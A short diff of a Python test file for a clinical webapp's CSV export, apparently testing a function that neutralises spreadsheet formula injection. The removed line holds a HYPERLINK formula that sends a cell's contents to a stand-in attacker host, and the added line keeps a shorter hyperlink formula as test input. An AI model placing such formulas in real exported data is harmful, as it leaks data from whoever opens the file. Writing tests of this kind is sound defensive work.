@@ -14,7 +14,7 @@ from tests.test_clinician_trajectory import MEDIAN, build_patient
 from webapp.export import COLUMNS, export_csv, neutralise
 from webapp.models import AuditEvent, Patient
 
-HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click")'
+HYPERLINK = '=HYPERLINK("http://x.test")'  # fits study_code (32)
 
 
 @pytest.mark.parametrize(
